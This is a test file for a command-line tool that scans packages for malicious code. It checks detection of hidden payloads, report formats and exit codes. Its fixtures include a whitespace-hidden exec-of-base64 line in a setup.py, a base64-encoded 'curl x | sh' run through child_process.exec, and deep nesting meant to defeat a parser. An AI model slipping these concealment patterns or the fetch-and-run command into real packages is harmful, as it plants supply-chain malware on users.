/** End-to-end: `depwarden inspect` as built (npm test builds first), including the worker threads. */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { tmpTree } from "../test-helpers/tmp.js";

const repo = fileURLToPath(new URL("../..", import.meta.url));
const bin = join(repo, "dist/cli/main.js");

function run(args: string[], cwd = repo) {
  const r = spawnSync(process.execPath, [bin, ...args], { cwd, encoding: "utf8" });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const W4SP_SETUP = `from setuptools import setup
import os${" ".repeat(400)};__import__('builtins').exec(__import__('base64').b64decode("cHJpbnQoJ2hpJyk="))
setup(name="typesutil", version="0.1.3", packages=["typesutil"])
`;

describe("depwarden inspect", () => {
  it("finds the hidden payload of a W4SP-style setup.py; json, exit 1", () => {
    const dir = tmpTree({
      "PKG-INFO": "Metadata-Version: 2.1\nName: typesutil\nVersion: 0.1.3\n",
      "setup.py": W4SP_SETUP,
      "typesutil/__init__.py": "def f():\n    return 1\n",
    });
    const r = run(["inspect", dir, "--format", "json"]);
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout);
    const pkg = doc.packages[0];
    expect(pkg).toMatchObject({ kind: "directory", name: "typesutil", version: "0.1.3", ecosystem: "PyPI" });
    const rules = pkg.findings.map((f: { rule: string; severity: string }) => `${f.rule}:${f.severity}`);
    expect(rules).toContain("hidden-by-whitespace:critical");
    const hidden = pkg.findings.find((f: { rule: string }) => f.rule === "hidden-by-whitespace");
    expect(hidden).toMatchObject({ type: "malicious-code", file: "setup.py", line: 2 });
    expect(hidden.sha256).toBe(createHash("sha256").update(W4SP_SETUP).digest("hex"));
    expect(doc.summary.bySeverity.critical).toBeGreaterThan(0);
  });

  it("uses worker threads with --workers and gives the same findings as in-process", () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 40; i++)
      files[`m${i}.py`] = `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`;
    const dir = tmpTree(files);
    const a = run(["inspect", dir, "-f", "json", "--workers", "2"]);
    const b = run(["inspect", dir, "-f", "json", "--workers", "0"]);
    expect(a.code).toBe(1);
    expect(JSON.parse(a.stdout).packages).toEqual(JSON.parse(b.stdout).packages);
    expect(JSON.parse(a.stdout).packages[0].findings.length).toBeGreaterThanOrEqual(40);
  });

  it("table and sarif formats; --fail-on none passes", () => {
    const dir = tmpTree({ "setup.py": W4SP_SETUP });
    const table = run(["inspect", dir, "--fail-on", "none"]);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/CRITICAL\s+hidden-by-whitespace\s+setup\.py:2/);
    expect(table.stdout).toContain("│ ;__import__('builtins').exec(");
    const sarif = JSON.parse(run(["inspect", dir, "-f", "sarif"]).stdout);
    expect(sarif.version).toBe("2.1.0");
    const result = sarif.runs[0].results.find((x: { ruleId: string }) => x.ruleId === "hidden-by-whitespace");
    expect(result.locations[0].physicalLocation.region.startLine).toBe(2);
    expect(result.level).toBe("error");
  });

  it("ignores a config file inside the inspected package: it cannot switch its own gate off", () => {
    const dir = tmpTree({ "setup.py": W4SP_SETUP, ".depwarden.yaml": "scan:\n  failOn: none\n" });
    const r = run(["inspect", dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/\.depwarden\.yaml: ignored: a package's own config file/);
  });

  it("a file no analyser can read (code nested to defeat the parser) makes the run incomplete: exit 2", () => {
    const payload = `const cp = require("child_process");\ncp.exec(Buffer.from("Y3VybCB4IHwgc2g=", "base64").toString());\n`;
    const dir = tmpTree({ "x.cjs": `${payload}var a = ${"[\n".repeat(5000)}${"]".repeat(5000)};\n` });
    const r = run(["inspect", dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/x\.cjs: not analysed/);
  });

  it("bad input: one line, exit 2, no stack trace", () => {
    const dir = tmpTree({ "bad.whl": "PK\u0003\u0004 not really a zip" });
    const r = run(["inspect", join(dir, "bad.whl")]);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("bad.whl");
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(run(["inspect", "--workers", "x", dir]).code).toBe(2);
  });
});
